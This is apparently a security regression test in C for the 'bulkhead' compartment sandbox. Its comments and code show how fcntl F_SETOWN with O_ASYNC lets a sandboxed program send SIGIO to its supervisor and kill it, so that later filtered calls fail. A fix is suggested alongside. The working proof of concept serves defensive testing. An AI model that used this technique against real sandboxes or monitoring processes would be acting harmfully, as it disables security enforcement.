// Found while fixing review 31's signal to a supervisor thread; attacker
// model B (the default domain's program counter, any system call the
// filter allows): availability. The filter refuses the signal calls that
// name the supervisor (kill, tkill, ..., and judges kill of other ids),
// but the kernel also signals a file's owner: fcntl(F_SETOWN) (also
// F_SETOWN_EX, ioctl FIOSETOWN and SIOCSPGRP) names any process (or
// group) as the owner of a descriptor, and with O_ASYNC every I/O event
// on it sends that owner SIGIO (or the signal F_SETSIG chose: not tried).
// The kernel checks that the task setting the owner may signal it
// (fs/fcntl.c sigio_perm: root, or the same user), and the supervisor
// runs as the program's user. SIGIO's default action ends the process,
// and the supervisor does not ignore it; every call it decides then fails
// with ENOSYS (fail-closed).
//
// Here main finds the supervisor (Inputs/find-supervisor.h), makes it the
// owner of a pipe's reading end with O_ASYNC, and writes one byte: the
// supervisor dies, the open of /dev/null after fails with ENOSYS, ATTACK
// SUCCEEDED. The control makes itself the owner (SIGIO ignored).
//
// Seen in the guest (root): ATTACK SUCCEEDED, 3 runs of 3.
//
// Suggested fix: the filter sends fcntl F_SETOWN and F_SETOWN_EX (and
// ioctl FIOSETOWN, SIOCSPGRP) to the supervisor, which refuses an owner
// that is the supervisor, one of its threads or its group. The kernel
// keeps the owner's struct pid (a later task with the same number has
// another), so a thread the supervisor makes later should never become
// the owner: only the look at the call would count (as read, not tried).
// FIOSETOWN's and SIOCSPGRP's id is in memory: refuse those outright, or
// judge a copy and make the call in the supervisor. Ignoring SIGIO in the
// supervisor is not enough alone: F_SETSIG picks another signal.
// XFAIL: *
// REQUIRES: pku
// RUN: rm -rf %t && mkdir %t
// RUN: %bulkhead_clang -fpkey-compartments -O1 %s -o %t/prog
// RUN: %run %t/prog control > %t/control.out 2>&1 || true
// RUN: FileCheck %s --check-prefix=CONTROL < %t/control.out
// RUN: %run %t/prog attack > %t/out 2>&1 || true
// RUN: FileCheck %s < %t/out
// CONTROL: vault says 20
// CONTROL: supervisor found: 1
// CONTROL: owner set: 0
// CONTROL-NOT: ATTACK SUCCEEDED
// CONTROL: open after: ok
// CHECK: vault says 20
// CHECK: supervisor found: 1
// CHECK-NOT: ATTACK SUCCEEDED
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include <bulkhead.h>

#include "Inputs/find-supervisor.h"

BULKHEAD_DATA(vault) static char secret[32] = "TOP-SECRET-VAULT-KEY";
BULKHEAD_ENTRY(vault) int vault_len(void) { return (int)strlen(secret); }

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IONBF, 0);
  printf("vault says %d\n", vault_len());
  if (argc < 2)
    return 2;
  pid_t sup = find_supervisor();
  printf("supervisor found: %d\n", sup > 0);
  int p[2];
  if (pipe(p))
    return 2;
  signal(SIGIO, SIG_IGN); /* the control's own SIGIO */
  pid_t owner = !strcmp(argv[1], "attack") ? sup : getpid();
  printf("owner set: %d\n", fcntl(p[0], F_SETOWN, owner));
  if (fcntl(p[0], F_SETFL, O_ASYNC) || write(p[1], "x", 1) != 1)
    return 2;
  usleep(300000);
  int fd = open("/dev/null", O_RDONLY);
  int err = errno;
  printf("open after: %s\n", fd >= 0 ? "ok" : strerror(err));
  if (fd < 0 && err == ENOSYS)
    printf("ATTACK SUCCEEDED: SIGIO to the file's owner killed the "
           "supervisor; every call it decides fails\n");
  return 0;
}
